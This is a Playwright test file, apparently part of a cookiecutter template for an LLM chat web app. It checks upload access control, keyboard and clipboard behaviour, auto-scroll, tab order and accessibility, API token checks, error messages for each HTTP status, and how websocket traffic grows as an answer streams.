    image = page.get_by_role("img", name="dot.png")
    expect(image).to_have_js_property("naturalWidth", 1)  # loaded, as its owner
    image_url = app.url + image.get_attribute("src")
    assert page.request.get(image_url).body() == PNG
    someone_else = new_visitor(app, browser)
    assert someone_else.request.get(image_url).status == 404
    someone_else.context.close()
    stranger = browser.new_context()  # not past the gate: neither reads nor uploads
    assert stranger.request.get(image_url).status == 404
    upload = {"files": {"name": "a.csv", "mimeType": "text/csv", "buffer": CSV}}
    assert stranger.request.post(f"{app.url}/_upload", multipart=upload).status == 403
    stranger.close()


def test_keys_enter_sends_shift_enter_breaks_the_line(page):
    question = page.get_by_role("textbox", name="Your question")
    question.fill("first line")
    question.press("Shift+Enter")
    question.press_sequentially("second line")
    expect(question).to_have_value("first line\nsecond line")
    question.press("Enter")
    expect(chat_log(page).get_by_text("first line")).to_contain_text("second line")
    expect(answers(page)).to_have_count(1)
    expect(question).to_have_value("")


def test_copy_puts_the_answer_on_the_clipboard(page):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ask(page, "Copy me", "openai/fake-fast")
    expect(answers(page)).to_have_count(1)
    answers(page).last.get_by_role("button", name="Copy answer").click()
    clipboard = page.evaluate("navigator.clipboard.readText()")
    assert clipboard == streamed_text(SCRIPTS["fake-fast"].tokens)


def test_auto_scroll_follows_the_answer_until_the_user_scrolls_up(page):
    page.set_viewport_size({"width": 1280, "height": 400})
    ask(page, "Count a lot", "openai/fake-long")
    log = chat_log(page)
    distance_from_bottom = "(log) => log.scrollHeight - log.scrollTop - log.clientHeight"
    page.wait_for_function(
        "document.querySelector('[role=log]').scrollHeight > "
        "document.querySelector('[role=log]').clientHeight + 200"
    )
    assert log.evaluate(distance_from_bottom) < 60  # followed the answer down

    scroll_up_until_it_stays(log)
    height = log.evaluate("(log) => log.scrollHeight")
    page.wait_for_function(f"document.querySelector('[role=log]').scrollHeight > {height} + 100")
    where = log.evaluate(
        "(log) => ({top: log.scrollTop, height: log.scrollHeight, client: log.clientHeight})"
    )
    # Not pulled back down to the answer's end while reading above it.
    assert where["height"] - where["top"] - where["client"] > 100, where
    page.keyboard.press("Escape")
    expect(answers(page).last).to_have_attribute("data-status", "stopped")


def scroll_up_until_it_stays(log) -> None:
    """Scroll to the top as a user would, until the page has seen it there. The page learns
    where the reader is from the scroll event, dispatched at a later frame (over 300 ms later on
    a busy machine); a render before then still takes the reader for one at the bottom and
    scrolls back down, so the event reports the bottom. A reader would scroll again; so does
    this, until the event is dispatched with the log at the top. (`evaluate`, not
    `wait_for_function`: that one takes the promise itself for a truthy answer.)"""
    scroll_to_top = """(log) => new Promise((resolve) => {
        log.addEventListener("scroll", () => resolve(log.scrollTop === 0), {once: true});
        setTimeout(() => resolve(false), 2000);  // no event: it was at the top already
        log.scrollTo(0, 0);
    })"""
    wait_until(lambda: log.evaluate(scroll_to_top), "the page saw the reader at the top", 30)


def test_every_control_is_reached_with_tab_in_order_with_its_focus_shown(page):
    ask(page, "Hello", "openai/fake-fast")
    expect(answers(page)).to_have_count(1)
    page.get_by_role("button", name="New chat").focus()
    reached = [focused(page)]
    while reached[-1]["name"] != "Send":
        assert len(reached) < 30, reached
        page.keyboard.press("Tab")
        reached.append(focused(page))

    assert [control["name"] for control in reached] == [
        *("New chat", "Hello", "Rename Hello", "Delete Hello", "Toggle dark mode"),  # sidebar
        *("Model", "System prompt"),  # header
        *("Edit question", "Copy answer", "Regenerate answer"),  # the conversation
        *("Attach files", "Your question", "Send"),
    ]
    assert [control for control in reached if not control["shown"]] == []


def focused(page: Page) -> dict:
    """The focused control's name, and whether its focus ring shows (on it, or on the field
    around it, as Radix draws it for a text area)."""
    return page.evaluate(
        """() => {
          const control = document.activeElement;
          const ring = (e) => e && getComputedStyle(e).outlineStyle !== "none"
            && parseFloat(getComputedStyle(e).outlineWidth) > 0;
          return {
            name: control.getAttribute("aria-label") || control.innerText.trim(),
            shown: ring(control) || ring(control.parentElement),
          };
        }"""
    )


def test_the_empty_page_says_which_model_answers_and_suggests_questions(page, app, axe, upstream):
    missing = []
    page.on("response", lambda r: r.status == 404 and missing.append(r.url))
    page.reload()  # with the listener, from the first request
    expect_chat(page)
    assert missing == []
    icon = page.locator("link[rel=icon]").get_attribute("href")
    response = page.request.get(f"{app.url}{icon}")
    assert (response.status, response.headers["content-type"]) == (200, "image/svg+xml")

    log = chat_log(page)
    expect(log.get_by_role("heading", name="Welcome to {{ cookiecutter.project_name }}")).to_be_visible()
    # Served by the fake provider at LLM_API_BASE, so named by its host, not as OpenAI.
    expect(log).to_contain_text(f"{label('openai/fake-fast', upstream.base_url)} answers.")
    suggestions = log.get_by_role("group", name="Suggested questions").get_by_role("button")
    expect(suggestions).to_have_count(4)
    audit(page, axe, "empty")

    choose_model(page, BAKED_MODEL)  # the embedded one in a local bake: what to expect of it
    expect(log).to_contain_text(who_answers(BAKED_MODEL, upstream.base_url))
    choose_model(page, "openai/fake-fast")
    first = suggestions.first.inner_text()
    suggestions.first.click()
    expect(log.get_by_text(first, exact=True)).to_be_visible()
    expect(answers(page).last).to_have_attribute("data-status", "done")
    expect(log.get_by_role("group", name="Suggested questions")).to_have_count(0)


def test_with_api_token_set_the_page_answers_and_other_callers_are_refused(page, app):
    question = {"messages": [{"role": "user", "content": "Hello"}]}
    refused = httpx.post(f"{app.api}/api/chat", json=question, timeout=10)
    assert refused.status_code == 401, refused.text
    ask(page, "Hello", "openai/fake-fast")
    expect(answers(page).last).to_have_attribute("data-status", "done")


LONG_WORDS = "word " * (MAX_MESSAGE_CHARS // 5 + 200)  # over the characters a message may have
HUGE_WORDS = "word " * 5_000  # over the size a conversation may have (MAX_REQUEST_BYTES)
# Each refusal before the stream: the model and question that meet it, what the page says,
# and the action it offers (none where only the server's configuration can help).
REFUSALS = {
    "401": ("openai/fake-401", "Hello", "Check its API key in .env and restart the app.", None),
    "413": ("openai/fake-fast", HUGE_WORDS, "This conversation is too large to send", "Edit"),
    "422": ("openai/fake-fast", LONG_WORDS, f"at most {MAX_MESSAGE_CHARS} characters", "Edit"),
    "429": ("openai/fake-429", "Hello", "Wait 7 seconds, then retry.", "Retry"),
    "502": ("openai/fake-500", "Hello", "The model provider failed (status 500).", "Retry"),
    "503": (UNCONFIGURED_MODEL, "Hello", "needs MISTRAL_API_KEY; set it in .env", None),
}


@pytest.mark.parametrize("status", REFUSALS)
def test_a_refusal_shows_what_to_do(page, axe, status):
    model, question, says, action = REFUSALS[status]
    ask(page, question, model)
    answer = answers(page).last
    expect(answer).to_have_attribute("data-status", "error")
    expect(answer.get_by_role("alert")).to_contain_text(says)
    expect_only_action(answer, action)
    audit(page, axe, f"refusal-{status}")
    page.reload()
    expect(answers(page).last).to_have_attribute("data-status", "error")
    expect_only_action(answers(page).last, action)  # saved with the answer
    if action == "Edit":
        answers(page).last.get_by_role("button", name=action).click()
        edited = page.get_by_role("textbox", name="Edit your question")
        expect(edited).to_have_value(question.strip())


def expect_only_action(answer, action: str | None) -> None:
    """The one button beside the error, if any: no Copy of an empty answer, no Regenerate."""
    buttons = answer.get_by_role("button")
    expect(buttons).to_have_count(1 if action else 0)
    if action:
        expect(buttons).to_have_text(action)


def websocket_bytes_of_an_answer(page: Page, model: str) -> int:
    """Bytes the backend pushed over the websocket while one answer streamed."""
    received: list[int] = []
    page.on(
        "websocket",
        lambda socket: socket.on("framereceived", lambda frame: received.append(len(frame))),
    )
    page.reload()  # reconnect, so the listener sees the socket
    expect(page.get_by_role("combobox", name="Model")).to_be_visible()
    before = len(received)
    ask(page, "Write a lot", model)
    expect(answers(page)).to_have_count(1, timeout=60_000)
    return sum(received[before:])


def test_websocket_bytes_grow_linearly_with_the_answer(app, browser):
    """The page holds the growing answer and gets only what is new: 4x the tokens cost about
    4x the bytes, where resending the whole answer per push would cost about 16x."""
    figures = {}
    for model, tokens in (("openai/fake-500-tokens", 500), ("openai/fake-2000-tokens", 2000)):
        page = browser.new_page()
        page.goto(app.url)
        enter_password(page)
        figures[tokens] = {
            "tokens": tokens,
            "answer_chars": len(streamed_text(tokens)),
            "websocket_bytes": websocket_bytes_of_an_answer(page, model),
        }
        page.close()
    ARTIFACTS.mkdir(exist_ok=True)
    (ARTIFACTS / "websocket.json").write_text(json.dumps(figures, indent=2))
    print(json.dumps(figures))

    growth = figures[2000]["websocket_bytes"] / figures[500]["websocket_bytes"]
    assert growth < 6, figures
{%- if cookiecutter.llm_provider == "local" %}


def test_the_embedded_model_answers_on_the_page(page):
    """What a new user meets first: the embedded model's answer."""
    ask(page, "What is the capital of France?", BAKED_MODEL)
    answer = answers(page).last
    expect(answer).to_have_attribute("data-status", "done", timeout=60_000)
    expect(answer).to_contain_text(BAKED_MODEL)  # the finish line
    screenshot(page, "first-answer")
{%- endif %}
